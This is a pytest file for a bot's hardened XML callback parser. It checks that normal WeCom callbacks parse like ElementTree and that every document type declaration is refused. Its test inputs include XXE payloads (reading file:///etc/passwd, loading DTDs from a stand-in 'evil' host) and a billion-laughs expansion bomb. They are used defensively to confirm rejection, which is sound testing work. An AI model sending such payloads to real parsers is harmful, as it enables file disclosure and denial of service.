"""The callback XML parser: what defusedxml's forbid_dtd guaranteed, without its pure-Python parser."""

from __future__ import annotations

import xml.etree.ElementTree as ET

import pytest

from bot.channels.wecom.safexml import XML_ERRORS, DoctypeForbidden, fromstring

BILLION_LAUGHS = (
    b'<!DOCTYPE xml [<!ENTITY l0 "lol">'
    + b"".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">'.encode() for i in range(1, 10))
    + b"]><xml><X>&l9;</X></xml>"
)


def test_a_callback_parses_as_elementtree_would() -> None:
    data = "<xml><A><![CDATA[帮助]]></A><B>1</B><S><I><Id>x</Id></I></S></xml>".encode()
    assert ET.tostring(fromstring(data)) == ET.tostring(ET.fromstring(data))


@pytest.mark.parametrize(
    "data",
    [
        b'<!DOCTYPE xml [<!ENTITY e "x">]><xml>&e;</xml>',
        b'<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml>&e;</xml>',
        b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><xml/>',
        b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil/x.dtd"><xml/>',
        b"<!DOCTYPE xml><xml/>",
        BILLION_LAUGHS,
    ],
)
def test_any_document_type_declaration_is_refused(data: bytes) -> None:
    with pytest.raises(DoctypeForbidden):
        fromstring(data)


@pytest.mark.parametrize(
    "data", [b"<xml>&e;</xml>", b"<xml><a:b/></xml>", b"<xml>", b"", b"\xff\xfe<", b"<xml/><xml/>"]
)
def test_malformed_input_raises_one_of_the_known_errors(data: bytes) -> None:
    with pytest.raises(XML_ERRORS):
        fromstring(data)
